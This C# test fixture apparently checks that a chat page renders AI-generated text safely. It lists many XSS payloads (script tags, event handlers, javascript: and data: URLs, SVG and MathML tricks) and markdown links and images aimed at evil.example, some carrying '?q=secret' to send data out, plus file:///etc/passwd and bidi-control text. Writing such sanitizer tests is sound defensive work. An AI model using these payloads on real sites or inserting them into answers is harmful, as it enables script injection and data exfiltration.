namespace DigitalTwin.BrowserTests.Quality;

/// <param name="Text">As the model, the visitor or the owner writes it.</param>
/// <param name="Shown">What of it a reader of the answer must still see; white space does not count.</param>
/// <param name="Links">Where the links of the answer lead, in order.</param>
public sealed record HostileString(string Text, string Shown, params string[] Links)
{
    public override string ToString() => Text.Length > 120 ? Text[..120] + "…" : Text;
}

/// <summary>What a model that a document talked into mischief would write. Whoever gets through asks <c>evil.example</c> or opens a dialog.</summary>
internal static class HostileStrings
{
    /// <summary>Markup that must stand on the page letter by letter.</summary>
    private static readonly string[] Markup =
    [
        "<script>alert(1)</script>",
        "<script src=https://evil.example/x.js></script>",
        "<SCRIPT\n>alert(1)</SCRIPT\n>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script>alert(1)",
        "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=https://evil.example/p.png>",
        "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
        "<img src=x:alert(alt) onerror=eval(src) alt=1>",
        "<img srcset=\"https://evil.example/p.png 2x\" loading=lazy>",
        "<image src=https://evil.example/p.png>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><use href=\"https://evil.example/x.svg#x\"/></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>press</text></a></svg>",
        "<svg><foreignObject><iframe src=https://evil.example></iframe></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math href=\"javascript:alert(1)\">press</math>",
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=https://evil.example/x.swf></object>",
        "<embed src=https://evil.example/x.swf>",
        "<applet code=x></applet>",
        "<form action=https://evil.example><input name=q><button>press</button></form>",
        "<button formaction=javascript:alert(1)>press</button>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)><option>x</select>",
        "<textarea autofocus onfocus=alert(1)>x</textarea>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<video src=https://evil.example/v.mp4 autoplay onloadstart=alert(1)></video>",
        "<audio src=https://evil.example/a.mp3 autoplay onerror=alert(1)></audio>",
        "<video><source onerror=alert(1)></video>",
        "<body onload=alert(1)>",
        "<html manifest=https://evil.example/m>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
        "<div style=\"background:url(https://evil.example/p.png)\">x</div>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<link rel=preload as=image href=https://evil.example/p.png>",
        "<link rel=dns-prefetch href=//evil.example>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<base href=https://evil.example/>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<a href=javascript:alert(1)>press</a>",
        "<a href=\"https://evil.example\" ping=\"https://evil.example/ping\">press</a>",
        "<a onmouseover=alert(1)>x</a>",
        "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>",
        "<div id=question>clobbered</div><form id=composer></form>",
        "<p id=twin-page>{}</p>",
        "<b onpointerrawupdate=alert(1)>x</b>",
        "<!-- <script>alert(1)</script> -->",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><?php echo 1 ?>",
        "<!DOCTYPE html [<!ENTITY x SYSTEM \"https://evil.example\">]>",
        "<img src=x onerror=alert(1)",
        "</p></div></article></main><h1>outside</h1>",
        "\"><img src=x onerror=alert(1)>",
        "'-alert(1)-'",
        "${alert(1)} {{constructor.constructor('alert(1)')()}} #{alert(1)}",
        "{{name}} {{#suggestions}} {{page}}",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "＜script＞alert(1)＜/script＞",
        "<xss style=animation-name:rise onanimationstart=alert(1)>x</xss>",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "[99] [0] [1234567] [-1] [1.5]x",
    ];

    public static IReadOnlyList<HostileString> All { get; } =
    [
        .. Markup.Select(text => new HostileString(text, text.Replace("[99] [0] [1234567] [-1] [1.5]x", "[-1] [1.5]x", StringComparison.Ordinal))),

        // A link keeps its words and loses its target.
        .. new[]
        {
            "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3a;alert(1)", "&#106;avascript:alert(1)",
            "java&Tab;script:alert(1)", "java\tscript:alert(1)", "\u0001javascript:alert(1)", "\u00a0javascript:alert(1)", "\u200bjavascript:alert(1)", "javascript\u00ad:alert(1)",
            "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,%3Csvg/onload=alert(1)%3E", "file:///etc/passwd", "blob:https://evil.example/x",
            "//evil.example/x", "\\\\evil.example\\x", "/api/memory", "?x=1", "#question", "http:evil.example", "https:/evil.example", "https:evil.example",
            "view-source:https://evil.example", "intent://evil.example#Intent;end", "javascript://https://evil.example/%0aalert(1)", "%6aavascript:alert(1)", "ftp://evil.example", "feed:javascript:alert(1)",
        }.Select(target => new HostileString($"[press](<{target}>) now", "press now")),

        // A good scheme may lead anywhere when the visitor presses it, and nothing goes there before.
        new("[press](https://evil.example/?q=secret)", "press", "https://evil.example/?q=secret"),
        new("[press](https://evil.example/\"onmouseover=\"alert(1))", "press", "https://evil.example/\"onmouseover=\"alert(1)"),
        new("[press](https://evil.example \"a\" onclick=\"alert(1)\")", "[press](", "https://evil.example"),
        new("[press](https://evil.example '\"><img src=x onerror=alert(1)>')", "press", "https://evil.example"),
        new("<a href=\"https://evil.example", "<a href=\"https://evil.example", "https://evil.example"),
        new("<https://evil.example/x>", "https://evil.example/x", "https://evil.example/x"),
        new("<javascript:alert(1)>", "javascript:alert(1)"),
        new("<data:text/html,x>", "data:text/html,x"),
        new("https://evil.example/<script>alert(1)</script>", "<script>alert(1)</script>", "https://evil.example/"),
        new("www.evil.example/a\"onclick=alert(1)", "www.evil.example/a", "http://www.evil.example/a\"onclick=alert(1)"),
        new("[<img src=x onerror=alert(1)>](https://evil.example/)", "<img src=x onerror=alert(1)>", "https://evil.example/"),
        new("[![x](https://evil.example/p.png)](https://evil.example/y)", "x", "https://evil.example/y"),
        new("[a@evil.example](mailto:a@evil.example?body=%3Cscript%3E)", "a@evil.example", "mailto:a@evil.example?body=%3Cscript%3E"),

        // Images are their description, wherever they come from.
        new("![pixel](https://evil.example/p.png)", "pixel"),
        new("![pixel](https://evil.example/p.png?q=secret \"title\") and ![two](//evil.example/p.png)", "pixel and two"),
        new("![pixel](data:image/svg+xml,<svg/onload=alert(1)>)", "pixel"),
        new("![<script>alert(1)</script>](x)", "<script>alert(1)</script>"),
        new("![pixel][one]\n\n[one]: https://evil.example/p.png", "![pixel][one]", "https://evil.example/p.png"),
        new("[press][one]\n\n[one]: javascript:alert(1)", "[press][one]"),
        new("[press]\n\n[press]: https://evil.example/?q=secret", "[press]", "https://evil.example/?q=secret"),
        new("![pixel]\n\n[pixel]: <https://evil.example/p.png>", "![pixel]", "https://evil.example/p.png"),

        // Inside other Markdown.
        new("| a | b |\n|---|---|\n| <script>alert(1)</script> | ![x](https://evil.example/p.png) [y](javascript:alert(1)) |", "<script>alert(1)</script>xy"),
        new("> <img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
        new("- <iframe src=https://evil.example>\n- [x](vbscript:x)", "<iframe src=https://evil.example>x"),
        new("# <svg onload=alert(1)>", "<svg onload=alert(1)>"),
        new("```html\"><img/src=x/onerror=alert(1)>\n<script>alert(1)</script>\n```", "<script>alert(1)</script>"),
        new("``` ' onclick=alert(1) style=color:red\n<b>\n```", "<b>"),
        new("`<img src=x onerror=alert(1)>`", "<img src=x onerror=alert(1)>"),
        new("**<b onclick=alert(1)>x</b>**", "<b onclick=alert(1)>x</b>"),
        new("&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;", "<script>alert(1)</script> <img src=x onerror=alert(1)>"),
        new("\\<script>alert(1)\\</script>", "<script>alert(1)</script>"),
        new("[1](javascript:alert(1)) [2][3] [1, 2, 3]", ""),

        // Letters that turn, hide or do not end.
        new("\u202Etxt.exe\u202C \u2066evil\u2069 \u200Fright\u200E", "txt.exe"),
        new("\u202Ebackwards without an end", "backwards without an end"),
        new("Z̸̧̢̛͇͚͎̪̬̲͈̗̺͙͉̀̑̒̐͌̓̕͠A̷̛̗L̶̰̈́G̵̫͠O̸͈͝", "A"),
        new("a\u0001b\u0007c\u001b[31mred", "red"),
        new(new string('x', 3000), new string('x', 3000)),
        new("https://example.com/" + new string('y', 2000), new string('y', 2000), "https://example.com/" + new string('y', 2000)),
        new(string.Concat(Enumerable.Repeat("> ", 300)) + "deep", "deep"),
        new(string.Concat(Enumerable.Range(0, 60).Select(depth => new string(' ', 2 * depth) + "- x\n")) + "\ndeep", "deep"),
        new(string.Concat(Enumerable.Repeat("**", 600)) + "stars", "stars"),
        new(string.Concat(Enumerable.Repeat("[", 900)) + "brackets", "brackets"),
    ];
}
